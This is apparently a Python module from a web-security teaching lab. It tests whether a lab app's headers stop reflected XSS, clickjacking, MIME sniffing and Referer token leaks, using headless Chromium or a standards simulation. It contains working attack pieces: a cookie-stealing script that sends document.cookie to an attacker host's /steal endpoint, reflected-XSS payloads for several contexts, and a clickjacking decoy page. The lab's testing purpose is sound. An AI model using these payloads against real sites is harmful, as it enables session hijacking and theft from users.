"""Browser attacks of lab 12-headers: reflected XSS, clickjacking, MIME sniffing, Referer leak.

Each probe plays a victim in headless Chromium (:mod:`labkit.browser`, the system browser)
against a victim app, with an attacker site on another origin, and reports what the attack
achieved as a :class:`Probe`:

* :func:`steal_cookie` — the victim, logged in, opens a URL you crafted; did the attacker's
  ``/steal`` endpoint receive her session cookie?
* :func:`clickjack` — the victim opens an attacker page framing the app; did the frame
  render, and did her click on the decoy land on the app's button?
* :func:`sniff_upload` — a ``text/plain`` upload included as ``<script src>`` on the app's
  own origin (what an injection would do): did the browser run it?
* :func:`referer_leak` — the victim opens her password-reset link and follows its link to
  a third-party help centre: did the reset token travel in the ``Referer``?

Without Chromium (or Playwright) each probe falls back to a SIMULATION that says so in its
``via``: the decision a browser would take, computed from the responses with the
standards' algorithms (CSP3 source-list matching and ``frame-ancestors``, the HTML
``X-Frame-Options`` processing model, Fetch's ``nosniff`` and MIME blocking, Referrer
Policy §8.3). A simulation cannot run JavaScript: it says what the browser *would* do.
"""

from __future__ import annotations

import json
import re
import secrets
import time
import weakref
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any, TypeVar
from urllib.parse import parse_qs, quote, urljoin, urlsplit

import httpx

from labkit.attacks.observatory import parse_set_cookie

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

__all__ = [
    "REFERRER_POLICIES",
    "SIMULATION",
    "Probe",
    "browser_or_simulation",
    "clickjack",
    "clickjack_page",
    "cookie_stealer",
    "csp_allows",
    "framing_allowed",
    "loot",
    "mime_blocks_script",
    "parse_policies",
    "referer_leak",
    "referrer_for",
    "reflected_xss",
    "script_include",
    "search_url",
    "simulate_clickjack",
    "simulate_referer_leak",
    "simulate_reflected_xss",
    "simulate_sniff_upload",
    "simulate_steal_cookie",
    "sniff_upload",
    "steal_cookie",
    "stealer_code",
    "victim_session",
    "xss_payloads",
]

T = TypeVar("T")
SESSION_COOKIE = "session"
SIMULATION = "SIMULATION (no Chromium: the standards' algorithms, no JavaScript run)"
_SETTLE_MS = 5_000
#: How long a page must have had no request in flight to count as settled (Playwright's
#: ``networkidle`` waits 500 ms; every request is tracked here, so a shorter quiet will do).
_QUIET_S = 0.1
_JS_TYPES = frozenset(
    {"text/javascript", "application/javascript", "application/ecmascript", "text/ecmascript",
     "application/x-javascript", "text/jscript", "module"}
)  # fmt: skip
_DEFAULT_REFERRER_POLICY = "strict-origin-when-cross-origin"  # Fetch + browsers since 2020
REFERRER_POLICIES = (
    "no-referrer",
    "no-referrer-when-downgrade",
    "same-origin",
    "origin",
    "strict-origin",
    "origin-when-cross-origin",
    "strict-origin-when-cross-origin",
    "unsafe-url",
)


@dataclass(frozen=True)
class Probe:
    """What one attack achieved against one app, and how we know (``via``)."""

    attack: str
    succeeded: bool
    evidence: str
    via: str
    data: Mapping[str, Any] = field(default_factory=dict)

    @property
    def simulated(self) -> bool:
        return self.via.startswith("SIMULATION")

    def __repr__(self) -> str:
        outcome = "SUCCEEDED" if self.succeeded else "blocked"
        return f"[{self.via}] {self.attack}: {outcome} — {self.evidence}"


# -- payloads and pages -------------------------------------------------------------------
def cookie_stealer(attacker_url: str) -> str:
    """An inline script sending ``document.cookie`` to the attacker's ``/steal``.

    It navigates there: CSP governs what a page *loads* (``img-src``, ``connect-src``...),
    not where it goes, and ``/steal`` answers 204 No Content, so the victim stays put.
    """
    return f"<script>{stealer_code(attacker_url)}</script>"


def stealer_code(attacker_url: str) -> str:
    """The JavaScript of :func:`cookie_stealer`, e.g. for a file you upload."""
    steal = json.dumps(attacker_url.rstrip("/") + "/steal?c=")
    return f"location={steal}+encodeURIComponent(document.cookie)"


def script_include(src: str) -> str:
    """A ``<script src>`` element: no inline code, so ``script-src 'self'`` allows it."""
    return f'<script src="{src}"></script>'


def search_url(victim_url: str, q: str) -> str:
    """The victim app's search page for ``q`` (what a phishing link would point at)."""
    return f"{victim_url.rstrip('/')}/?q={quote(q, safe='')}"


def clickjack_page(
    target_url: str,
    *,
    top: int,
    left: int,
    width: int = 280,
    height: int = 44,
    opacity: float = 0.05,
) -> str:
    """An attacker page: ``target_url`` in an almost invisible iframe on top of a decoy
    button ``#prize`` placed at (``top``, ``left``) — where the framed page has its button."""
    return (
        "<!doctype html><meta charset='utf-8'><title>You won!</title>"
        "<style>body{margin:0;font:16px system-ui}"
        "iframe{position:absolute;top:0;left:0;width:900px;height:600px;border:0;"
        f"opacity:{opacity};z-index:2}}"
        f"#prize{{position:absolute;top:{top}px;left:{left}px;width:{width}px;"
        f"height:{height}px;z-index:1}}</style>"
        f"<iframe src='{target_url}'></iframe><button id='prize'>Claim your free e-book!</button>"
    )


def loot(attacker_url: str, kind: str | None = None) -> list[dict[str, Any]]:
    """What the attacker's site has recorded (``kind``: ``"cookie"`` or ``"referer"``)."""
    with httpx.Client(base_url=attacker_url, trust_env=False, timeout=30) as client:
        entries = client.get("/api/_lab/loot").json()["loot"]
    return [e for e in entries if kind is None or e["kind"] == kind]


# -- the browser, or the simulation -------------------------------------------------------
def browser_or_simulation(
    work: Callable[[Browser], T], simulate: Callable[[], T], *, timeout: float = 120
) -> T:
    """Run ``work`` in headless Chromium; when there is none, run ``simulate`` instead."""
    from labkit.browser import BrowserUnavailable, run_in_browser

    try:
        return run_in_browser(work, timeout=timeout)
    except BrowserUnavailable:
        return simulate()


def _via(browser: Browser) -> str:
    return f"Chromium {browser.version}"


def _victim_login(victim_url: str) -> tuple[str, str]:
    with httpx.Client(base_url=victim_url, trust_env=False, timeout=30) as client:
        victim = client.get("/api/_lab/victim").json()
    return victim["email"], victim["password"]


def _logged_in(browser: Browser, victim_url: str, **context: Any) -> tuple[BrowserContext, Page]:
    """A fresh browser profile where the victim has logged in on the app's own login page."""
    ctx = browser.new_context(**context)
    page = _watched(ctx.new_page())
    page.goto(victim_url.rstrip("/") + "/login", wait_until="domcontentloaded")
    status = page.evaluate(
        """async ([email, password]) => (await fetch("/api/auth/login", {
            method: "POST", headers: {"Content-Type": "application/json"},
            body: JSON.stringify({email, password})})).status""",
        list(_victim_login(victim_url)),
    )
    if status != 200:
        ctx.close()
        raise RuntimeError(f"the victim could not log in (HTTP {status})")
    return ctx, page


@contextmanager
def _page(browser: Browser, session: BrowserContext | None) -> Iterator[Page]:
    """A watched page: in ``session`` (the page closed afterwards), else in a profile of its
    own (closed afterwards)."""
    ctx = session or browser.new_context()
    page = _watched(ctx.new_page())
    try:
        yield page
    finally:
        (page if session is not None else ctx).close()


@contextmanager
def victim_session(browser: Browser, victim_url: str) -> Iterator[BrowserContext]:
    """A browser profile where the victim has logged in once, for several probes in a row
    (``session=`` of :func:`steal_cookie`, :func:`clickjack`, :func:`sniff_upload` and
    :func:`referer_leak`: each opens pages of its own there); closed at the end."""
    ctx, page = _logged_in(browser, victim_url)
    page.close()
    try:
        yield ctx
    finally:
        ctx.close()


def _session_cookie(ctx: BrowserContext) -> str:
    return next((str(c["value"]) for c in ctx.cookies() if c["name"] == SESSION_COOKIE), "")


class _Traffic:
    """The requests in flight on one page (its frames included), counted from its creation."""

    def __init__(self, page: Page) -> None:
        self.in_flight = 0
        self.changed = time.monotonic()
        page.on("request", lambda _: self._step(1))
        page.on("requestfinished", lambda _: self._step(-1))
        page.on("requestfailed", lambda _: self._step(-1))

    def _step(self, by: int) -> None:
        self.in_flight = max(0, self.in_flight + by)
        self.changed = time.monotonic()

    def quiet_since(self, start: float) -> bool:
        """No request in flight, none begun or ended for :data:`_QUIET_S`, counted from
        ``start`` at the earliest (events reach Python only while the page is waited on)."""
        return self.in_flight == 0 and time.monotonic() - max(self.changed, start) >= _QUIET_S


_TRAFFIC: weakref.WeakKeyDictionary[Page, _Traffic] = weakref.WeakKeyDictionary()


def _watched(page: Page) -> Page:
    """``page``, its requests counted from now on, so :func:`_settle` can tell when it is done."""
    _TRAFFIC[page] = _Traffic(page)
    return page


def _settle(page: Page) -> None:
    """Wait until the document has loaded and no request of the page (a navigation away
    included) has been in flight for :data:`_QUIET_S` — at most :data:`_SETTLE_MS`."""
    traffic = _TRAFFIC.get(page)
    if traffic is None:
        try:
            page.wait_for_load_state("networkidle", timeout=_SETTLE_MS)
        except Exception:  # a page that keeps fetching: judge what happened so far
            page.wait_for_timeout(500)
        return
    start = time.monotonic()
    deadline = start + _SETTLE_MS / 1000
    loaded = False
    while time.monotonic() < deadline:
        if not loaded:
            try:
                loaded = page.evaluate("document.readyState") == "complete"
            except Exception:  # a navigation in progress: its requests are counted
                loaded = False
        if loaded and traffic.quiet_since(start):
            return
        page.wait_for_timeout(25)


def _open(page: Page, url: str) -> None:
    """Open ``url`` and let it settle; a page that navigates itself away (as a cookie
    stealer does, to a 204) never fires ``load``, so wait for the response, then for quiet."""
    from playwright.sync_api import Error as PlaywrightError

    try:
        page.goto(url, wait_until="commit")
    except PlaywrightError as exc:  # "interrupted by another navigation": the payload ran
        if "interrupted" not in str(exc) and "ERR_ABORTED" not in str(exc):
            raise
    _settle(page)


def _console(page: Page) -> list[str]:
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    return messages


def _refusals(messages: Sequence[str]) -> str:
    hits = [m for m in messages if "Refused" in m or "violates" in m or "blocked" in m]
    return f" Chromium said: {hits[0].strip()[:220]}" if hits else ""


# -- reflected XSS --------------------------------------------------------------------------
def steal_cookie(
    victim_url: str,
    attacker_url: str,
    url: str,
    *,
    extra_csp: str | None = None,
    bypass_csp: bool = False,
    browser: Browser | None = None,
    session: BrowserContext | None = None,
) -> Probe:
    """The victim, logged in, opens ``url``: does her session cookie reach the attacker?

    ``extra_csp``: a policy the browser adds to the app's pages (to ask "would this CSP
    alone have helped?"); ``bypass_csp``: the browser ignores the app's CSP (to judge output
    encoding alone); ``session``: her logged-in profile from :func:`victim_session` (with
    ``browser`` and neither option), else a profile of its own.
    """
    if session is not None and browser is not None and not extra_csp and not bypass_csp:
        earlier = len(loot(attacker_url, "cookie"))  # a shared profile: judge only this visit
        page = _watched(session.new_page())
        try:
            cookie, messages = _session_cookie(session), _console(page)
            _open(page, url)
        finally:
            page.close()
        return _theft(attacker_url, cookie, messages, _via(browser), since=earlier)
    if browser is not None:
        return _steal_cookie(browser, victim_url, attacker_url, url, extra_csp, bypass_csp)
    return browser_or_simulation(
        lambda b: _steal_cookie(b, victim_url, attacker_url, url, extra_csp, bypass_csp),
        lambda: simulate_steal_cookie(victim_url, url, extra_csp=extra_csp, bypass_csp=bypass_csp),
    )


def _add_csp(ctx: BrowserContext, victim_url: str, policy: str) -> None:
    origin = victim_url.rstrip("/")

    def handle(route: Any) -> None:
        response = route.fetch()
        headers = {**response.headers, "content-security-policy": policy}
        route.fulfill(response=response, headers=headers)

    ctx.route(re.compile("^" + re.escape(origin) + "/"), handle)


def _steal_cookie(
    browser: Browser,
    victim_url: str,
    attacker_url: str,
    url: str,
    extra_csp: str | None,
    bypass_csp: bool,
) -> Probe:
    context: dict[str, Any] = {"bypass_csp": bypass_csp}
    if extra_csp:  # Chromium counts a route-fulfilled page as public: let it reach loopback
        context["permissions"] = ["local-network-access"]
    try:
        ctx, page = _logged_in(browser, victim_url, **context)
    except Exception as exc:  # an older Chromium without Local Network Access permissions
        if "permission" not in str(exc).lower():
            raise
        ctx, page = _logged_in(browser, victim_url, bypass_csp=bypass_csp)
    try:
        cookie = _session_cookie(ctx)
        if extra_csp:
            _add_csp(ctx, victim_url, extra_csp)
        messages = _console(page)
        _open(page, url)
    finally:
        ctx.close()
    via = _via(browser) + (" + added CSP" if extra_csp else "") + (" CSP bypassed" * bypass_csp)
    return _theft(attacker_url, cookie, messages, via)


def _theft(
    attacker_url: str, cookie: str, messages: Sequence[str], via: str, since: int = 0
) -> Probe:
    """The verdict of a cookie-theft attempt: did the attacker's site receive ``cookie`` (in
    its cookie loot after the first ``since`` entries)?"""
    received = [e["value"] for e in loot(attacker_url, "cookie")[since:]]
    stolen = bool(cookie) and any(cookie in value for value in received)
    if stolen:
        evidence = f"the attacker received the victim's session cookie ({cookie[:24]}…)"
    elif not cookie:
        evidence = "the victim's browser holds no session cookie"
    else:
        evidence = "the attacker received nothing of the victim's session." + _refusals(messages)
    return Probe("reflected XSS cookie theft", stolen, evidence, via, {"cookie": cookie})


def xss_payloads(marker: str) -> dict[str, str]:
    """Reflected-XSS payloads by context; each sets ``window[marker]`` when it runs.

    ``element``: markup in element content (a ``<`` starts a tag); ``script``: the classic;
    ``attribute``: no ``<`` at all — a ``"`` ends ``value="..."`` and adds an event handler
    that ``autofocus`` fires at once.
    """
    return {
        "element": f"<img src=x onerror=window.{marker}=1>",
        "script": f"<script>window.{marker}=1</script>",
        "attribute": f'" autofocus onfocus=window.{marker}=1 x="',
    }


def reflected_xss(
    victim_url: str, *, bypass_csp: bool = True, browser: Browser | None = None
) -> Probe:
    """Open the search page with each of :func:`xss_payloads`: does any run?

    With ``bypass_csp`` (the default) the browser ignores the app's CSP, so this judges the
    output encoding alone. ``data["ran"]`` names the contexts whose payload ran.
    """
    marker = f"labkitXss{secrets.token_hex(4)}"
    payloads = xss_payloads(marker)
    if browser is not None:
        return _reflected(browser, victim_url, payloads, marker, bypass_csp)
    return browser_or_simulation(
        lambda b: _reflected(b, victim_url, payloads, marker, bypass_csp),
        lambda: simulate_reflected_xss(victim_url, bypass_csp=bypass_csp),
    )


def _reflected(
    browser: Browser, victim_url: str, payloads: Mapping[str, str], marker: str, bypass: bool
) -> Probe:
    ctx = browser.new_context(bypass_csp=bypass)
    ran = []
    try:
        page = ctx.new_page()
        for context, payload in payloads.items():
            page.goto(search_url(victim_url, payload))
            page.wait_for_timeout(150)  # autofocus fires after the first paint
            if page.evaluate(f"window.{marker} === 1"):
                ran.append(context)
    finally:
        ctx.close()
    via = _via(browser) + (" CSP bypassed" if bypass else "")
    evidence = (
        f"payloads ran in: {', '.join(ran)}" if ran else "no payload ran: each showed as text"
    )
    return Probe("reflected XSS", bool(ran), evidence, via, {"ran": ran})


# -- clickjacking ---------------------------------------------------------------------------
def clickjack(
    victim_url: str,
    attacker_url: str,
    page_url: str | None = None,
    *,
    browser: Browser | None = None,
    session: BrowserContext | None = None,
) -> Probe:
    """The victim opens ``page_url`` (default: the attacker site's own framing page) and
    clicks its decoy ``#prize``: did the frame render, and did the click make her reading
    list public? ``session``: as for :func:`steal_cookie`."""
    page_url = page_url or attacker_url.rstrip("/") + "/"
    if browser is not None:
        return _clickjack(browser, victim_url, page_url, session)
    return browser_or_simulation(
        lambda b: _clickjack(b, victim_url, page_url),
        lambda: simulate_clickjack(victim_url, page_url),
    )


_FETCH_PROFILE = """async (body) => (await fetch("/api/profile", body ? {method: "PUT",
    headers: {"Content-Type": "application/json"}, body: JSON.stringify(body)} : {})).json()"""


def _shows(frame: Any, selector: str) -> bool:
    """True when the frame rendered the app's page (a refused frame shows Chromium's error
    page instead; a frame torn down while we look shows nothing)."""
    try:
        return frame.query_selector(selector) is not None
    except Exception:  # playwright.Error: the frame was detached
        return False


def _clickjack(
    browser: Browser, victim_url: str, page_url: str, session: BrowserContext | None = None
) -> Probe:
    if session is None:
        ctx, home = _logged_in(browser, victim_url)
    else:
        ctx, home = session, session.new_page()
        home.goto(victim_url.rstrip("/") + "/login", wait_until="domcontentloaded")
    attack = None
    try:
        home.evaluate(_FETCH_PROFILE, {"public": False})
        attack = _watched(ctx.new_page())
        messages = _console(attack)
        attack.goto(page_url)
        _settle(attack)
        frames = [f for f in attack.frames if f.url.startswith(victim_url.rstrip("/") + "/")]
        rendered = any(_shows(frame, "#share") for frame in frames)
        prize = attack.query_selector("#prize")
        box = prize.bounding_box() if prize is not None else None
        if box is not None:
            attack.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
            _settle(attack)
        public = bool(home.evaluate(_FETCH_PROFILE, None).get("public"))
    finally:
        if session is None:
            ctx.close()
        else:
            for page in (home, attack):
                if page is not None:
                    page.close()
    if public:
        evidence = "the frame showed the victim's profile and her click made it public"
    elif rendered:
        evidence = "the victim's profile rendered in the attacker's frame (the click missed)"
    elif prize is None:
        evidence = "the attacker page has no #prize element for the victim to click"
    else:
        evidence = "the browser refused to render the framed page." + _refusals(messages)
    data = {"rendered": rendered, "clicked_through": public}
    return Probe("clickjacking", rendered or public, evidence, _via(browser), data)


# -- MIME sniffing --------------------------------------------------------------------------
def sniff_upload(
    victim_url: str, *, browser: Browser | None = None, session: BrowserContext | None = None
) -> Probe:
    """Upload a script as ``notes.txt`` (served ``text/plain``), then include it with
    ``<script src>`` on the app's own search page: does the browser run it? ``session``: as
    for :func:`steal_cookie`."""
    nonce = secrets.token_hex(6)
    path = _upload(victim_url, f'window.labkitSniffed = "{nonce}";')
    if browser is not None:
        return _sniff(browser, victim_url, path, nonce, session)
    return browser_or_simulation(
        lambda b: _sniff(b, victim_url, path, nonce),
        lambda: _simulate_sniff(victim_url, path),
    )


def _upload(victim_url: str, content: str) -> str:
    email, password = _victim_login(victim_url)
    with httpx.Client(base_url=victim_url, trust_env=False, timeout=30) as client:
        token = client.post("/api/auth/login", json={"email": email, "password": password})
        bearer = {"Authorization": f"Bearer {token.json()['accessToken']}"}
        body = {"filename": "notes.txt", "content": content}
        response = client.post("/api/uploads", json=body, headers=bearer)
        response.raise_for_status()
    return str(response.json()["url"])


_INCLUDE = """src => new Promise(done => {
    const script = document.createElement("script");
    script.src = src;
    script.onload = () => done("loaded");
    script.onerror = () => done("error");
    document.body.append(script);
})"""


def _sniff(
    browser: Browser, victim_url: str, path: str, nonce: str, session: BrowserContext | None = None
) -> Probe:
    with _page(browser, session) as page:
        messages = _console(page)
        page.goto(victim_url.rstrip("/") + "/?q=tea")
        # stands in for an injection that got through: an element added to the app's page
        outcome = page.evaluate(_INCLUDE, path)
        ran = page.evaluate("window.labkitSniffed") == nonce
    if ran:
        evidence = f"Chromium ran {path} (text/plain) as a script"
    else:
        evidence = f"Chromium did not run {path} ({outcome})." + _refusals(messages)
    return Probe("MIME sniffing", ran, evidence, _via(browser), {"upload": path})


# -- Referer leak -----------------------------------------------------------------------------
def referer_leak(
    victim_url: str,
    attacker_url: str,
    *,
    browser: Browser | None = None,
    session: BrowserContext | None = None,
) -> Probe:
    """The victim asks for a password reset, opens the mailed link and follows its link to
    the help centre (the attacker's site): does the reset token arrive in the ``Referer``?
    ``session``: as for :func:`steal_cookie`."""
    link = _reset_link(victim_url)
    if browser is not None:
        return _referer(browser, link, attacker_url, session)
    return browser_or_simulation(
        lambda b: _referer(b, link, attacker_url),
        lambda: _simulate_referer(link),
    )


def _reset_link(victim_url: str) -> str:
    with httpx.Client(base_url=victim_url, trust_env=False, timeout=30) as client:
        email, _ = _victim_login(victim_url)
        client.post("/api/auth/forgot", json={"email": email}).raise_for_status()
        return str(client.get("/api/_lab/mailbox", params={"email": email}).json()["link"])


def _token_of(link: str) -> str:
    return parse_qs(urlsplit(link).query).get("token", [""])[0]


def _referer(
    browser: Browser, link: str, attacker_url: str, session: BrowserContext | None = None
) -> Probe:
    with _page(browser, session) as page:
        page.goto(link)
        help_link = page.query_selector("#help")
        if help_link is None:
            return Probe("Referer leak", False, "the reset page has no #help link", _via(browser))
        with page.expect_navigation():
            help_link.click()
        _settle(page)
    token = _token_of(link)
    referers = [e["value"] for e in loot(attacker_url, "referer")]
    leaked = any(token in r for r in referers)
    seen = referers[-1] if referers else "(none)"
    evidence = (
        f"the help centre received the reset token in Referer: {seen[:90]}"
        if leaked
        else f"the help centre received Referer: {seen[:90]}"
    )
    return Probe("Referer leak", leaked, evidence, _via(browser), {"link": link})


# -- the SIMULATION: standards' algorithms over httpx -------------------------------------
def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}".lower()


def _policies(headers: httpx.Headers, extra: str | None = None) -> list[dict[str, list[str]]]:
    values = headers.get_list("content-security-policy")
    return parse_policies([*values, *([extra] if extra else [])])


def parse_policies(values: Sequence[str]) -> list[dict[str, list[str]]]:
    """Each enforced CSP as directive -> sources (CSP3 §2.2.1: names and keywords are
    case-insensitive, the first occurrence of a directive wins; a header value may carry
    several comma-separated policies, all enforced)."""
    policies = []
    for text in (p for v in values for p in v.split(",")):
        policy: dict[str, list[str]] = {}
        for entry in text.split(";"):
            parts = entry.split()
            if parts and parts[0].lower() not in policy:
                policy[parts[0].lower()] = [p.lower() for p in parts[1:]]
        policies.append(policy)
    return policies


def _source_matches(expression: str, url: str, self_origin: str) -> bool:
    """CSP3 §6.7.2.5 "Does url match expression in origin" (no paths, no wildcard ports)."""
    target = urlsplit(url)
    if expression == "'self'":
        return _origin(url) == self_origin
    if expression == "*":
        return target.scheme not in ("data", "blob", "filesystem")
    if re.fullmatch(r"[a-z][a-z0-9+.-]*:", expression):
        return target.scheme == expression[:-1] or (
            expression == "http:" and target.scheme == "https"
        )
    if expression.startswith("'"):
        return False
    source = urlsplit(expression if "://" in expression else f"{target.scheme}://{expression}")
    host = (source.hostname or "").lower()
    if host.startswith("*."):
        host_ok = (target.hostname or "").endswith(host[1:])
    else:
        host_ok = host == (target.hostname or "")
    port = source.port or {"http": 80, "https": 443}.get(source.scheme)
    target_port = target.port or {"http": 80, "https": 443}.get(target.scheme)
    return host_ok and port == target_port and source.scheme in (target.scheme, "http")


def csp_allows(
    policies: Sequence[Mapping[str, Sequence[str]]],
    kind: str,
    self_origin: str,
    url: str = "",
) -> bool:
    """Would every policy allow this? ``kind``: ``"inline"`` (an inline script or event
    handler: CSP3 §6.7.3.3), ``"script"`` (a script from ``url``) or ``"frame-ancestor"``
    (``url`` is the framing page: §6.4.2.2)."""
    for policy in policies:
        if kind == "frame-ancestor":
            sources = policy.get("frame-ancestors")
            if sources is None:
                continue
        else:
            sources = policy.get("script-src", policy.get("default-src"))
            if sources is None:
                continue
        if kind == "inline":
            nonce_or_hash = any(s.startswith(("'nonce-", "'sha")) for s in sources)
            if "'unsafe-inline'" not in sources or nonce_or_hash:
                return False
        elif not any(_source_matches(s, url, self_origin) for s in sources):
            return False
    return True


def framing_allowed(headers: httpx.Headers, framed_url: str, ancestor_url: str) -> bool:
    """Would a browser render this response in a frame of ``ancestor_url``'s page?

    CSP ``frame-ancestors`` first (CSP3 §6.4.2); only when no policy has it, the HTML
    standard's ``X-Frame-Options`` processing: ``DENY`` refuses, ``SAMEORIGIN`` refuses other
    origins, an unknown or conflicting value is ignored.
    """
    policies = _policies(headers)
    if any("frame-ancestors" in p for p in policies):
        return csp_allows(policies, "frame-ancestor", _origin(framed_url), ancestor_url)
    values = {
        v.strip().lower() for raw in headers.get_list("x-frame-options") for v in raw.split(",")
    }
    if values == {"deny"}:
        return False
    if values == {"sameorigin"}:
        return _origin(ancestor_url) == _origin(framed_url)
    return True


def referrer_for(policy: str, from_url: str, to_url: str) -> str:
    """The ``Referer`` a browser sends from ``from_url`` to ``to_url`` (Referrer Policy §8.3;
    "" for none). The full URL loses its fragment and credentials."""
    parts = urlsplit(from_url)
    full = parts._replace(
        fragment="", netloc=parts.hostname + (f":{parts.port}" if parts.port else "")
    ).geturl()
    origin = _origin(from_url) + "/"
    same = _origin(from_url) == _origin(to_url)
    downgrade = _trustworthy(from_url) and not _trustworthy(to_url)
    return {
        "no-referrer": "",
        "no-referrer-when-downgrade": "" if downgrade else full,
        "same-origin": full if same else "",
        "origin": origin,
        "strict-origin": "" if downgrade else origin,
        "origin-when-cross-origin": full if same else origin,
        "strict-origin-when-cross-origin": full if same else ("" if downgrade else origin),
        "unsafe-url": full,
    }[policy]


def _trustworthy(url: str) -> bool:
    """ "Potentially trustworthy" (Secure Contexts §3.1): https, or loopback."""
    parts = urlsplit(url)
    return parts.scheme == "https" or (parts.hostname or "") in ("127.0.0.1", "localhost", "::1")


def mime_blocks_script(headers: httpx.Headers) -> str:
    """Why Fetch would refuse this response as a script ("" when it would run it)."""
    mime = headers.get("content-type", "").split(";")[0].strip().lower()
    nosniff = headers.get("x-content-type-options", "").split(",")[0].strip().lower() == "nosniff"
    if nosniff and mime not in _JS_TYPES:
        return f"nosniff and {mime or 'no type'} is not a JavaScript MIME type (Fetch §3.5.3)"
    if mime.startswith(("image/", "audio/", "video/")) or mime == "text/csv":
        return f"{mime} is never run as a script (Fetch §4.1)"
    return ""


class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.inline: list[str] = []
        self.handlers: list[str] = []
        self.sources: list[str] = []
        self.frames: list[str] = []
        self.links: dict[str, str] = {}
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {k.lower(): v or "" for k, v in attrs}
        self.handlers += [v for k, v in attributes.items() if k.startswith("on")]
        if tag == "script":
            if attributes.get("src"):
                self.sources.append(attributes["src"])
            else:
                self._in_script = True
                self.inline.append("")
        elif tag == "iframe" and attributes.get("src"):
            self.frames.append(attributes["src"])
        elif tag == "a" and attributes.get("id") and attributes.get("href"):
            self.links[attributes["id"]] = attributes["href"]

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.inline[-1] += data


def simulate_steal_cookie(
    victim_url: str, url: str, *, extra_csp: str | None = None, bypass_csp: bool = False
) -> Probe:
    """:func:`steal_cookie` as a SIMULATION: would a script reading ``document.cookie`` run
    on the page (CSP source matching, Fetch MIME checks), and can it read the cookie?"""
    with httpx.Client(trust_env=False, timeout=30) as client:
        email, password = _victim_login(victim_url)
        login = client.post(
            urljoin(victim_url, "/api/auth/login"), json={"email": email, "password": password}
        )
        cookies = [parse_set_cookie(c) for c in login.headers.get_list("set-cookie")]
        session = next((c for c in cookies if c.name == SESSION_COOKIE), None)
        token = login.json().get("accessToken", "")
        page = client.get(url, headers={"Cookie": f"{SESSION_COOKIE}={token}"})
        scripts = _Scripts()
        scripts.feed(page.text)
        policies = [] if bypass_csp else _policies(page.headers, extra_csp)
        self_origin = _origin(str(page.url))
        steals = [c for c in scripts.inline + scripts.handlers if "document.cookie" in c]
        runs = bool(steals) and csp_allows(policies, "inline", self_origin)
        for src in scripts.sources:
            absolute = urljoin(str(page.url), src)
            if not csp_allows(policies, "script", self_origin, absolute):
                continue
            body = client.get(absolute)
            if "document.cookie" in body.text and not mime_blocks_script(body.headers):
                runs = True
    readable = session is not None and not session.httponly
    stolen = runs and readable
    if stolen:
        evidence = "a script reading document.cookie would run, and the session cookie is readable"
    elif runs:
        evidence = "a script reading document.cookie would run, but the cookie is HttpOnly"
    else:
        evidence = "no script reading document.cookie would run on this page"
    return Probe("reflected XSS cookie theft", stolen, evidence, SIMULATION)


def simulate_reflected_xss(victim_url: str, *, bypass_csp: bool = True) -> Probe:
    """:func:`reflected_xss` as a SIMULATION: does a payload's code reach an inline script
    or an event handler, and would CSP allow it?"""
    payloads = xss_payloads(f"labkitXss{secrets.token_hex(4)}")
    bypass = bypass_csp
    ran = []
    with httpx.Client(trust_env=False, timeout=30) as client:
        for context, payload in payloads.items():
            page = client.get(search_url(victim_url, payload))
            scripts = _Scripts()
            scripts.feed(page.text)
            code = scripts.inline + scripts.handlers
            policies = [] if bypass else _policies(page.headers)
            injected = any("labkitXss" in c for c in code)
            if injected and csp_allows(policies, "inline", _origin(victim_url)):
                ran.append(context)
    evidence = f"payloads would run in: {', '.join(ran)}" if ran else "no payload would run"
    return Probe("reflected XSS", bool(ran), evidence, SIMULATION, {"ran": ran})


def simulate_clickjack(victim_url: str, page_url: str) -> Probe:
    """:func:`clickjack` as a SIMULATION: would the page's frames of the app render?"""
    with httpx.Client(trust_env=False, timeout=30) as client:
        page = client.get(page_url)
        scripts = _Scripts()
        scripts.feed(page.text)
        victims = [urljoin(page_url, f) for f in scripts.frames]
        victims = [f for f in victims if _origin(f) == _origin(victim_url)]
        rendered = any(framing_allowed(client.get(f).headers, f, page_url) for f in victims)
    evidence = (
        "the framed page would render (where the victim clicks cannot be simulated)"
        if rendered
        else "no frame of the victim app would render"
    )
    return Probe("clickjacking", rendered, evidence, SIMULATION, {"rendered": rendered})


def simulate_sniff_upload(victim_url: str) -> Probe:
    """:func:`sniff_upload` as a SIMULATION: CSP for the script URL, then Fetch's checks."""
    return _simulate_sniff(victim_url, _upload(victim_url, "window.labkitSniffed = 1;"))


def _simulate_sniff(victim_url: str, path: str) -> Probe:
    with httpx.Client(base_url=victim_url, trust_env=False, timeout=30) as client:
        page = client.get("/", params={"q": "tea"})
        upload = client.get(path)
    policies = _policies(page.headers)
    absolute = urljoin(victim_url, path)
    if not csp_allows(policies, "script", _origin(victim_url), absolute):
        return Probe("MIME sniffing", False, "the page's CSP refuses the script", SIMULATION)
    blocked = mime_blocks_script(upload.headers)
    evidence = (
        f"refused: {blocked}"
        if blocked
        else f"{path} ({upload.headers.get('content-type')}) would run"
    )
    return Probe("MIME sniffing", not blocked, evidence, SIMULATION, {"upload": path})


def simulate_referer_leak(victim_url: str) -> Probe:
    """:func:`referer_leak` as a SIMULATION: Referrer Policy §8.3 for the help link."""
    return _simulate_referer(_reset_link(victim_url))


def _simulate_referer(link: str) -> Probe:
    with httpx.Client(trust_env=False, timeout=30) as client:
        page = client.get(link)
    scripts = _Scripts()
    scripts.feed(page.text)
    target = urljoin(link, scripts.links.get("help", ""))
    tokens = [
        t.strip().lower() for v in page.headers.get_list("referrer-policy") for t in v.split(",")
    ]
    known = [t for t in tokens if t in REFERRER_POLICIES]
    policy = known[-1] if known else _DEFAULT_REFERRER_POLICY
    referrer = referrer_for(policy, link, target)
    leaked = bool(_token_of(link)) and _token_of(link) in referrer
    evidence = f"policy {policy}: the help centre would receive Referer: {referrer or '(none)'}"
    return Probe("Referer leak", leaked, evidence, SIMULATION, {"link": link})
